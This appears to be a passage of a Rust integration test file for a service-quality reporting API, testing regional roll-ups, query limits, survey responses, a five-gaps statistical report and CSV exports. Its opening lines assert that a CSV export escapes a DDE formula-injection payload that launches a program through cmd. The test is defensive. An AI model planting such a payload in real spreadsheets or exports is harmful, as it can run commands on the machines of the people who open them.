    assert_no_live_formula(&beliefs);
    let note_column = beliefs[0].iter().position(|h| h == "note").unwrap();
    assert_eq!(beliefs[1][note_column], "'-2+3+cmd|' /C calc'!A0");
    // And it is CSV, not JSON, as the contract says.
    let listed = app
        .send(
            app.client
                .get(format!("{}/v1/self-assessments.csv", app.base))
                .bearer_auth(manager),
        )
        .await;
    assert!(listed
        .header("content-type")
        .unwrap()
        .starts_with("text/csv"));
}

#[actix_web::test]
async fn regional_history_stays_put_when_a_location_moves() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    let (version, location) = shop_setup(&app, &org, checklist(), ("L1", "East")).await;
    let good =
        json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}});
    let poor =
        json!({"greeted": {"value": false}, "friendly": {"value": 1}, "clean": {"value": true}});
    // Two B2C visits while the branch is in East, and one B2B shop there (the assignment's own
    // segment: the branch itself is B2C).
    approve_one(&app, &org, &version, &location, None, &good).await;
    approve_one(&app, &org, &version, &location, None, &good).await;
    approve_one(&app, &org, &version, &location, Some("b2b"), &poor).await;

    // Upgrading a database that had these visits before regions and segments were recorded:
    // the migration records them from the assignment and location, and the server rebuilds
    // the roll-ups right after it, to the same cells.
    let before = rollups(&app, &org).await;
    // The B2B visit's cells: two standards, two dimensions, the visit score and its tenth, by
    // day, ISO week, month and year.
    assert_eq!(before.iter().filter(|r| r.segment == "b2b").count(), 6 * 4);
    common::redo_migrations_from(&app, "2026-12-02-000016").await;
    assert_eq!(rollups(&app, &org).await, before);

    // The branch moves to West; a visit after the move counts there.
    let id = location.as_str().unwrap();
    app.patch(
        &format!("/v1/locations/{id}"),
        manager,
        json!({"region": "West"}),
    )
    .await
    .expect(200);
    approve_one(&app, &org, &version, &location, None, &poor).await;

    let by = |query: &'static str| {
        let app = &app;
        async move {
            app.get(&format!("/v1/reports/gaps?{query}"), manager)
                .await
                .expect(200)
                .body
        }
    };
    let regional = by("group_by=standard,region&standard=S1").await;
    let east = row(&regional, "region", "East");
    let west = row(&regional, "region", "West");
    assert_eq!((east["n"].as_i64(), west["n"].as_i64()), (Some(3), Some(1)));
    // S1 per visit: good = 1, poor = (0 + 3·0)/4 = 0.
    close(&east["delivered"], 2.0 / 3.0);
    close(&west["delivered"], 0.0);
    assert_eq!(
        by("region=East&standard=S1").await["rows"][0]["n"],
        3,
        "the filter reads the recorded region too"
    );
    let segments = by("group_by=standard,segment&standard=S1").await;
    assert_eq!(row(&segments, "segment", "b2c")["n"], 3);
    let b2b = row(&segments, "segment", "b2b");
    assert_eq!(b2b["n"], 1);
    close(&b2b["delivered"], 0.0);
    assert_eq!(by("segment=b2b&standard=S1").await["rows"][0]["n"], 1);
    // The ranking and the trend filter by the recorded region as well.
    let ranking = app
        .get("/v1/reports/ranking?region=East", manager)
        .await
        .expect(200)
        .body;
    assert_eq!(ranking["rows"][0]["n"], 3);
    let trend = app
        .get("/v1/reports/trend?standard=S1&region=West", manager)
        .await
        .expect(200)
        .body;
    let points: i64 = trend["points"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["n"].as_i64().unwrap())
        .sum();
    assert_eq!(points, 1);

    // A rebuild from the submissions gives exactly the same cells.
    let before = rollups(&app, &org).await;
    assert!(before
        .iter()
        .any(|r| r.region == "East" && r.segment == "b2b"));
    assert_eq!(rebuilt(&app, &org).await, before);
    assert_eq!(by("group_by=standard,region&standard=S1").await, regional);

    // The analysts' export carries the recorded region and segment.
    let text = app
        .get_text("/v1/exports/submissions", &org.manager.access_token)
        .await;
    let lines: Vec<&str> = text.lines().collect();
    let header: Vec<&str> = lines[0].split(',').collect();
    let (r, g) = (
        header.iter().position(|h| *h == "region").unwrap(),
        header.iter().position(|h| *h == "segment").unwrap(),
    );
    let mut seen: Vec<(String, String)> = lines[1..]
        .iter()
        .map(|l| {
            let cells: Vec<&str> = l.split(',').collect();
            (cells[r].to_string(), cells[g].to_string())
        })
        .collect();
    seen.sort();
    seen.dedup();
    assert_eq!(
        seen,
        [("East", "b2b"), ("East", "b2c"), ("West", "b2c")]
            .map(|(a, b)| (a.to_string(), b.to_string()))
    );
}

#[actix_web::test]
async fn list_filters_and_uris_are_bounded() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    let many = |n: usize| {
        (0..n)
            .map(|i| format!("c{i}"))
            .collect::<Vec<_>>()
            .join(",")
    };
    let phones = |n: usize| vec!["phone"; n].join(",");
    let ids = |n: usize| {
        (0..n)
            .map(|_| uuid::Uuid::new_v4().to_string())
            .collect::<Vec<_>>()
            .join(",")
    };
    // 100 values are fine; 101 are refused, naming each parameter that holds too many.
    app.get(&format!("/v1/reports/gaps?standard={}", many(100)), manager)
        .await
        .expect(200);
    let refused = app
        .get(
            &format!(
                "/v1/reports/gaps?standard={}&channel={}",
                many(101),
                phones(101)
            ),
            manager,
        )
        .await
        .expect_problem(422);
    let mut fields: Vec<&str> = refused.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    fields.sort();
    assert_eq!(fields, ["channel", "standard"]);
    for path in [
        format!("/v1/reports/trend?checklist_id={}", ids(101)),
        format!("/v1/reports/ranking?region={}", many(101)),
        format!(
            "/v1/reports/scorecard?location_id={}&channel={}",
            uuid::Uuid::new_v4(),
            phones(101)
        ),
    ] {
        let refused = app.get(&path, manager).await.expect_problem(422);
        assert!(refused.body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("at most 100"));
    }
    // Every value is checked against the parameter's type: an unknown channel is named.
    let unknown = app
        .get("/v1/reports/gaps?channel=phone,teleport", manager)
        .await
        .expect_problem(422);
    assert_eq!(unknown.body["errors"][0]["field"], "channel[1]");
    // What took a second (5,000 values) or failed (11,000 and more) before: the URI is now
    // refused first.
    let huge = app
        .get(
            &format!("/v1/reports/gaps?checklist_id={}", many(5_000)),
            manager,
        )
        .await
        .expect_problem(414);
    assert!(huge.body["detail"].as_str().unwrap().contains("8192"));
    let long = app
        .get(
            &format!("/v1/reports/gaps?region={}", "x".repeat(9000)),
            manager,
        )
        .await;
    assert_eq!(long.status, 414);
}

#[actix_web::test]
async fn a_belief_spans_what_a_report_can_read_and_an_old_one_breaks_nothing() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    approved_visits(
        &app,
        &org,
        &[json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}})],
    )
    .await;
    let refused = app
        .post(
            "/v1/self-assessments",
            manager,
            json!({"standard": "S1", "period_from": "1900-01-01", "period_to": "2999-12-31", "believed": 0.9}),
        )
        .await
        .expect_problem(422);
    assert_eq!(refused.body["errors"][0]["field"], "period_to");
    // One recorded before the bound (written directly, as an older server did) is shown
    // unmeasured; the report still answers for everyone.
    {
        use diesel::prelude::*;
        use shopgap::db::schema::self_assessments as sa;
        let mut conn = app.pool.get().unwrap();
        diesel::insert_into(sa::table)
            .values((
                sa::id.eq(uuid::Uuid::now_v7().to_string()),
                sa::organization_id.eq(&org.id),
                sa::standard_code.eq("S1"),
                sa::period_from.eq(chrono::NaiveDate::from_ymd_opt(1900, 1, 1).unwrap()),
                sa::period_to.eq(chrono::NaiveDate::from_ymd_opt(2999, 12, 31).unwrap()),
                sa::believed.eq(0.9),
                sa::recorded_at.eq(Utc::now().naive_utc()),
            ))
            .execute(&mut *conn)
            .unwrap();
    }
    let day = visit_day();
    app.post(
        "/v1/self-assessments",
        manager,
        json!({"standard": "S1", "period_from": day.to_string(), "period_to": day.to_string(), "believed": 0.5}),
    )
    .await
    .expect(201);
    let report = app
        .get("/v1/reports/self-assessment", manager)
        .await
        .expect(200)
        .body;
    let rows = report["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2, "{report}");
    let old = rows
        .iter()
        .find(|r| r["period_from"] == "1900-01-01")
        .unwrap();
    assert_eq!(old["n"], 0);
    assert!(old["delivered"].is_null());
    let fresh = rows
        .iter()
        .find(|r| r["period_from"] == day.to_string())
        .unwrap();
    assert_eq!(fresh["n"], 1);
    close(&fresh["self_gap"], 0.5 - 1.0);
}

/// A level in millionths, as the roll-ups keep it: `(v - 1) / 6` on a 1–7 scale.
fn level(v: i64) -> f64 {
    ((v - 1) as f64 / 6.0 * 1e6).round() / 1e6
}

/// Mean and 95 % t interval of `values` (n ≥ 2), worked out directly.
fn t_mean(values: &[f64]) -> (f64, f64, f64, f64) {
    let n = values.len() as f64;
    let mean = values.iter().sum::<f64>() / n;
    let variance = values.iter().map(|v| (v - mean).powi(2)).sum::<f64>() / (n - 1.0);
    let half = shopgap::reports::ladder::t_quantile(n - 1.0) * (variance / n).sqrt();
    (mean, variance, mean - half, mean + half)
}

fn near(actual: &Value, expected: f64) {
    let got = actual
        .as_f64()
        .unwrap_or_else(|| panic!("{actual} is a number"));
    assert!(
        (got - expected).abs() < 2e-6,
        "{got} differs from {expected}"
    );
}

#[actix_web::test]
async fn the_five_gaps_ladder_matches_figures_worked_by_hand() {
    let app = TestApp::spawn().await;
    let org = app.seed_org("Acme").await;
    let manager = Some(org.manager.access_token.as_str());
    // Three approved visits at L1 (East): S1 compliance 1, 0.375, 1; S2 1, 1, 0.
    let answers = [
        json!({"greeted": {"value": true}, "friendly": {"value": 5}, "clean": {"value": true}}),
        json!({"greeted": {"value": false}, "friendly": {"value": 3}, "clean": {"value": true}}),
        json!({"greeted": {"value": true}, "friendly": {"na": true}, "clean": {"value": false}}),
    ];
    let (version, location) = shop_setup(&app, &org, checklist(), ("L1", "East")).await;
    for answer in &answers {
        approve_one(&app, &org, &version, &location, None, answer).await;
    }
    let book_version = app
        .get(
            &format!(
                "/v1/checklists/{}/versions/1",
                app.get("/v1/checklists", manager).await.body["items"][0]["id"]
                    .as_str()
                    .unwrap()
            ),
            manager,
        )
        .await
        .expect(200)
        .body["standards_book_version_id"]
        .clone();

    // A customer instrument (English and Persian) and a management one over the same book.
    let item = |key: &str, link: Value, perception: bool| {
        let mut item = json!({"key": key,
            "expectation_prompt": {"en": format!("{key}?"), "fa": format!("{key}؟")}});
        for (k, v) in link.as_object().unwrap() {
            item[k] = v.clone();
        }
        if perception {
            item["perception_prompt"] =
                json!({"en": format!("{key} here?"), "fa": format!("{key} اینجا؟")});
        }
        item
    };
    let instrument = |audience: &str| {
        let customer = audience == "customer";
        json!({"name": format!("{audience} survey"), "audience": audience,
               "standards_book_version_id": book_version, "languages": ["en", "fa"],
               "title": {"en": "Service", "fa": "خدمات"},
               "items": [item("greet", json!({"standard": "S1"}), customer),
                         item("clean", json!({"standard": "S2"}), customer),
                         item("help", json!({"dimension": "empathy"}), customer)],
               "importance_prompt": {"en": "Points?", "fa": "امتیاز؟"},
               "channel_question": {"prompt": {"en": "Channel?", "fa": "کانال؟"},
                                    "channels": ["in_person", "phone", "chat"]}})
    };
    let mut published = Vec::new();
    for audience in ["customer", "management"] {
        let id = app
            .post("/v1/survey-instruments", manager, instrument(audience))
            .await
            .expect(201)
            .body["instrument_id"]
            .as_str()
            .unwrap()
            .to_string();
        published.push(
            app.post(
                &format!("/v1/survey-instruments/{id}/draft/publish"),
                manager,
                json!({}),
            )
            .await
            .expect(200)
            .body["id"]
                .clone(),
        );
    }
    let (customer_version, management_version) = (&published[0], &published[1]);

    // A link at L1's counter; its public form shows the survey's texts and nothing else.
    let link = app
        .post(
            "/v1/survey-links",
            manager,
            json!({"instrument_version_id": customer_version, "location_id": location, "channel": "in_person"}),
        )
        .await
        .expect(201)
        .body;
    let public = link["public_path"].as_str().unwrap().to_string();
    let form = app.get(&public, None).await.expect(200).body;
    assert_eq!(form["text_directions"], json!({"en": "ltr", "fa": "rtl"}));
    assert_eq!(form["items"][0]["perception_prompt"]["fa"], "greet اینجا؟");
    let form_text = form.to_string();
    for secret in ["Acme", "L1", "East", org.id.as_str()] {
        assert!(!form_text.contains(secret), "the form reveals {secret}");
    }

    // Three customers: (greet e, p), (clean e, p), (help e, p), importance, channel.
    let responses = [
        (
            [(7, 4), (6, 6), (5, 3)],
            Some(
                json!({"tangibles": 20, "reliability": 20, "responsiveness": 20, "assurance": 0, "empathy": 40}),
            ),
            "chat",
        ),
        ([(6, 5), (7, 4), (6, 6)], None, "phone"),
        ([(7, 7), (5, 5), (7, 4)], None, "chat"),
    ];
    for (i, (ratings, importance, channel)) in responses.iter().enumerate() {
        let rated: Vec<Value> = ["greet", "clean", "help"]
            .iter()
            .zip(ratings.iter())
            .map(|(k, (e, p))| json!({"item": k, "expectation": e, "perception": p}))
            .collect();
        let mut body = json!({
            "response_id": uuid::Uuid::new_v4(), "language": if i == 0 { "fa" } else { "en" },
            "ratings": rated, "preferred_channel": channel,
        });
        if let Some(points) = importance {
            body["importance"] = points.clone();
        }
        let receipt = app
            .post(&format!("{public}/responses"), None, body.clone())
            .await
            .expect(201);
        assert_eq!(receipt.body["response_id"], body["response_id"]);
        if i == 0 {
            // The app resends after a lost answer: the same receipt, nothing counted twice.
            app.post(&format!("{public}/responses"), None, body.clone())
                .await
                .expect(200);
            // Other answers under the same id are refused.
            body["ratings"][0]["expectation"] = json!(1);
            app.post(&format!("{public}/responses"), None, body)
                .await
                .expect_problem(409);
        }
    }
    // Every problem of a response is listed; nothing is recorded.
    let refused = app
        .post(
            &format!("{public}/responses"),
            None,
            json!({"response_id": uuid::Uuid::new_v4(), "language": "de",
                   "ratings": [{"item": "greet", "expectation": 9, "perception": 3}, {"item": "nope", "expectation": 3}],
                   "preferred_channel": "email"}),
        )
        .await
        .expect_problem(422);
    let fields: Vec<&str> = refused.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        vec![
            "language",
            "ratings[0].expectation",
            "ratings[1].item",
            "preferred_channel"
        ]
    );

    // Managers: the organization (all year), L1 itself, and another region (not L1's).
    let this_year = Utc::now().year();
    let management = [
        (json!({}), [5, 6, 4], "phone"),
        (json!({"location_id": location}), [4, 7, 6], "in_person"),
        (json!({"region": "West"}), [1, 1, 1], "chat"),
    ];
    for (scope, ratings, channel) in &management {
        let rated: Vec<Value> = ["greet", "clean", "help"]
            .iter()
            .zip(ratings.iter())
            .map(|(k, e)| json!({"item": k, "expectation": e}))
            .collect();
        let mut body = json!({"instrument_version_id": management_version,
            "period_from": format!("{this_year}-01-01"), "period_to": format!("{this_year}-12-31"),
            "ratings": rated, "preferred_channel": channel});
        for (k, v) in scope.as_object().unwrap() {
            body[k] = v.clone();
        }
        app.post("/v1/management-responses", manager, body)
            .await
            .expect(201);
    }
    // The answers read back as given, each scope on its own; a filter finds one.
    let listed = app
        .get("/v1/management-responses?limit=2", manager)
        .await
        .expect(200)
        .body;
    assert_eq!(listed["items"].as_array().unwrap().len(), 2);
    let rest = app
        .get(
            &format!(
                "/v1/management-responses?limit=2&cursor={}",
                listed["next_cursor"].as_str().unwrap()
            ),
            manager,
        )
        .await
        .expect(200)
        .body;
    assert_eq!(rest["items"].as_array().unwrap().len(), 1);
    assert_eq!(rest["next_cursor"], Value::Null);
    let west = app
        .get("/v1/management-responses?region=West", manager)
        .await
        .expect(200)
        .body;
    assert_eq!(west["items"].as_array().unwrap().len(), 1);
    let answer = &west["items"][0];
    assert_eq!(answer["region"], "West");
    assert_eq!(answer["location_id"], Value::Null);
    assert_eq!(answer["respondent_id"], org.manager.id.as_str());
    assert_eq!(answer["preferred_channel"], "chat");
    assert_eq!(
        answer["ratings"][2],
        json!({"item": "help", "expectation": 1})
    );
    let one = app
        .get(
            &format!(
                "/v1/management-responses/{}",
                answer["id"].as_str().unwrap()
            ),
            manager,
        )
        .await
        .expect(200)
        .body;
    assert_eq!(&one, answer);
    // Marketing promises S1 always (and, earlier, nine in ten); nothing about S2.
    for (level, from) in [
        (1.0, format!("{this_year}-01-01")),
        (0.9, "2020-01-01".to_string()),
    ] {
        app.post(
            "/v1/promises",
            manager,
            json!({"standard": "S1", "text": "A warm welcome, always", "source": "advertisement",
                   "channels": ["in_person"], "valid_from": from, "promised_level": level}),
        )
        .await
        .expect(201);
    }

    // All history: visits, responses and answers of today, both promises.
    let path = format!(
        "/v1/reports/five-gaps?location_id={}",
        location.as_str().unwrap()
    );
    let report = app.get(&path, manager).await.expect(200).body;
    let s1 = row(&report, "standard", "S1");

    // By hand. E_c of S1: greet expectations 7, 6, 7; perceptions 4, 5, 7.
    let e_c: Vec<f64> = [7, 6, 7].map(level).to_vec();
    let p_c: Vec<f64> = [4, 5, 7].map(level).to_vec();
    let diffs: Vec<f64> = e_c
        .iter()
        .zip(&p_c)
        .map(|(e, p)| ((e - p) * 1e6).round() / 1e6)
        .collect();
    let e_m: Vec<f64> = [5, 4].map(level).to_vec(); // the organization's and L1's, not West's
    let (ec, ec_var, ec_low, ec_high) = t_mean(&e_c);
    let (pc, _, _, _) = t_mean(&p_c);
    let (em, em_var, em_low, em_high) = t_mean(&e_m);
    let (d5, _, d5_low, d5_high) = t_mean(&diffs);
    near(&s1["customer_expectation"]["value"], ec);
    assert_eq!(s1["customer_expectation"]["n"], 3);
    near(&s1["customer_expectation"]["ci_low"], ec_low);
    near(&s1["customer_expectation"]["ci_high"], ec_high);
    near(&s1["customer_perception"]["value"], pc);
    near(&s1["management_expectation"]["value"], em);
    assert_eq!(s1["management_expectation"]["n"], 2);
    near(&s1["management_expectation"]["ci_low"], em_low);
    near(&s1["management_expectation"]["ci_high"], em_high);
    // D of S1: (1 + 0.375 + 1) / 3 over 3 visits, with its Wilson interval.
    let d = (1.0 + 0.375 + 1.0) / 3.0;
    let (w_low, w_high) = shopgap::reports::rules::wilson(d, 3);
    near(&s1["delivered"]["value"], d);
    assert_eq!(s1["delivered"]["n"], 3);
    near(&s1["target"], 0.9);
    near(&s1["promised"], 1.0);

    // Gap 1, Welch: E_c − E_m with se² = v_c/3 + v_m/2.
    let se2 = ec_var / 3.0 + em_var / 2.0;
    let df = se2 * se2 / ((ec_var / 3.0).powi(2) / 2.0 + (em_var / 2.0).powi(2) / 1.0);
    let half = shopgap::reports::ladder::t_quantile(df) * se2.sqrt();
    let gap1 = &s1["gap1_knowledge"];
    near(&gap1["value"], ec - em);
    near(&gap1["ci_low"], ec - em - half);
    near(&gap1["ci_high"], ec - em + half);
    // Minimum sample 3: two management answers are not enough.
    assert_eq!(gap1["reliable"], false);
    let gap2 = &s1["gap2_standards"];
    near(&gap2["value"], em - 0.9);
    near(&gap2["ci_low"], em_low - 0.9);
    let gap3 = &s1["gap3_delivery"];
    near(&gap3["value"], 0.9 - d);
    near(&gap3["ci_low"], 0.9 - w_high);
    near(&gap3["ci_high"], 0.9 - w_low);
    assert_eq!(gap3["reliable"], true);
    let gap4 = &s1["gap4_communication"];
    near(&gap4["value"], 1.0 - d);
    near(&gap4["ci_low"], 1.0 - w_high);
    let gap5 = &s1["gap5_customer"];
    near(&gap5["value"], d5);
    near(&gap5["ci_low"], d5_low);
    near(&gap5["ci_high"], d5_high);
    // The identity: E_c − D = gap 1 + gap 2 + gap 3.
    let sum = ["gap1_knowledge", "gap2_standards", "gap3_delivery"]
        .iter()
        .map(|g| s1[g]["value"].as_f64().unwrap())
        .sum::<f64>();
    near(&s1["expectation_vs_delivered"], ec - d);
    assert!((sum - (ec - d)).abs() < 1e-9);

    // A date range reads month cells for its whole months and day cells for the days around
    // them: the last 45 days give the same figures as all history (everything is from today);
    // a range that ends yesterday has no survey figures.
    let today = Utc::now()
        .with_timezone(&chrono_tz::Europe::Berlin)
        .date_naive();
    let ranged = app
        .get(
            &format!("{path}&from={}&to={today}", today - Duration::days(45)),
            manager,
        )
        .await
        .expect(200)
        .body;
    assert_eq!(ranged["rows"], report["rows"]);
    let before = app
        .get(
            &format!(
                "{path}&from={}&to={}",
                today - Duration::days(45),
                today - Duration::days(1)
            ),
            manager,
        )
        .await
        .expect(200)
        .body;
    assert!(before["rows"]
        .as_array()
        .unwrap()
        .iter()
        .all(|r| r["customer_expectation"].is_null()));

    // S2 has no promise: gap 4 names what is missing.
    let s2 = row(&report, "standard", "S2");
    assert_eq!(s2["gap4_communication"]["value"], Value::Null);
    assert_eq!(s2["gap4_communication"]["missing"], json!(["R"]));

    // Weighted gap 5: only the first customer gave points. Their empathy level is the mean of
    // greet and help: E = (1 + 4/6) / 2, P = (3/6 + 2/6) / 2; tangibles (clean) E = P.
    let empathy_gap = ((level(7) + level(5)) / 2.0 - (level(4) + level(3)) / 2.0) * 0.4;
    near(&report["weighted_gap5"]["value"], empathy_gap);
    assert_eq!(report["weighted_gap5"]["n"], 1);
    // Channel preferences: customers chat 2, phone 1; managers (org and L1) phone 1, in person 1.
    let prefs = report["channel_preferences"].as_array().unwrap();
    let pref = |c: &str| prefs.iter().find(|p| p["channel"] == c).unwrap();
    near(&pref("chat")["customer_share"], 2.0 / 3.0);
    near(&pref("phone")["customer_share"], 1.0 / 3.0);
    near(&pref("phone")["management_share"], 0.5);
    near(&pref("in_person")["management_share"], 0.5);
    assert_eq!(pref("in_person")["customer_n"], 0);

    // The same rows as CSV, one line each, every gap flattened.
    let cells = csv_cells(
        &app,
        &org.manager.access_token,
        &path.replacen("five-gaps", "five-gaps.csv", 1),
    )
    .await;
    let header = &cells[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let s1_line = cells
        .iter()
        .find(|l| l[column("standard")] == "S1")
        .unwrap();
    let gap3_cell: f64 = s1_line[column("gap3")].parse().unwrap();
    near(&json!(gap3_cell), 0.9 - d);
    assert_eq!(s1_line[column("gap1_reliable")], "false");
    let s2_line = cells
        .iter()
        .find(|l| l[column("standard")] == "S2")
        .unwrap();
    assert_eq!(s2_line[column("gap4_missing")], "R");
    assert_eq!(cells.len(), 3);

    // By dimension: empathy holds greet (S1) and help, per response.
    let by_dimension = app
        .get(&format!("{path}&subject=dimension"), manager)
        .await
        .expect(200)
        .body;
    let empathy = row(&by_dimension, "dimension", "empathy");
    let per_response: Vec<f64> = [(7, 5), (6, 6), (7, 7)]
        .iter()
        .map(|(a, b)| ((level(*a) + level(*b)) / 2.0 * 1e6).round() / 1e6)
        .collect();
    near(
        &empathy["customer_expectation"]["value"],
        t_mean(&per_response).0,
    );

    // Grouped by location (no location filter): L1's ladder counts the organization's, East's
    // and L1's own management answers, as the report for L1 alone does; its rows are those
    // rows with the group named.
    let without_group = |mut row: Value| {
        for field in ["location_id", "location_code", "region", "period"] {
            row[field] = Value::Null;
        }
        row
    };
    let by_location = app
        .get("/v1/reports/five-gaps?group_by=location", manager)
        .await
        .expect(200)
        .body;
    assert_eq!(by_location["group_by"], "location");
    for line in by_location["rows"].as_array().unwrap() {
        assert_eq!(line["location_id"], location);
        assert_eq!(line["location_code"], "L1");
        assert_eq!(line["region"], "East");
    }
    assert_eq!(
        by_location["rows"]
            .as_array()
            .unwrap()
            .iter()
            .cloned()
            .map(without_group)
            .collect::<Vec<_>>(),
        *report["rows"].as_array().unwrap()
    );
    // By region: East's ladder holds the organization's answer only (L1's answer is about a
    // smaller scope, West's about another region).
    let by_region = app
        .get("/v1/reports/five-gaps?group_by=region", manager)
        .await
        .expect(200)
        .body;
    let east_s1 = row(&by_region, "standard", "S1");
    assert_eq!(east_s1["region"], "East");
    assert_eq!(east_s1["location_code"], Value::Null);
    assert_eq!(east_s1["management_expectation"]["n"], 1);
    near(&east_s1["management_expectation"]["value"], level(5));
    assert_eq!(east_s1["customer_expectation"], s1["customer_expectation"]);
    assert_eq!(east_s1["delivered"], s1["delivered"]);
    // By month: everything is from this month, so its ladder is the whole report's.
    let by_month = app
        .get(&format!("{path}&group_by=month"), manager)
        .await
        .expect(200)
        .body;
    let month = today.format("%Y-%m").to_string();
    assert!(by_month["rows"]
        .as_array()
        .unwrap()
        .iter()
        .all(|r| r["period"] == month.as_str()));
    assert_eq!(
        by_month["rows"]
            .as_array()
            .unwrap()
            .iter()
            .cloned()
            .map(without_group)
            .collect::<Vec<_>>(),
        *report["rows"].as_array().unwrap()
    );
    let grouped_cells = csv_cells(
        &app,
        &org.manager.access_token,
        "/v1/reports/five-gaps.csv?group_by=location",
    )
    .await;
    assert!(grouped_cells[0].iter().any(|h| h == "location_code"));
    assert_eq!(grouped_cells.len(), 3);

    // The survey roll-ups equal a rebuild from the responses, exactly.
    let mut conn = app.pool.get().unwrap();
    let kept = shopgap::surveys::store::rollups_of(&mut conn, &org.id).unwrap();
    shopgap::db::write_transaction(&mut conn, |c| shopgap::surveys::store::rebuild(c, None))
        .unwrap();
    let rebuilt = shopgap::surveys::store::rollups_of(&mut conn, &org.id).unwrap();
    assert!(!kept.is_empty());
    assert_eq!(kept, rebuilt);
    drop(conn);
    let again = app.get(&path, manager).await.expect(200).body;
    assert_eq!(again, report);

    // A revoked link answers like one that never existed.
    app.post(
        &format!("/v1/survey-links/{}/revoke", link["id"].as_str().unwrap()),
        manager,
        json!({}),
    )
    .await
    .expect(200);
    app.get(&public, None).await.expect_problem(404);
}
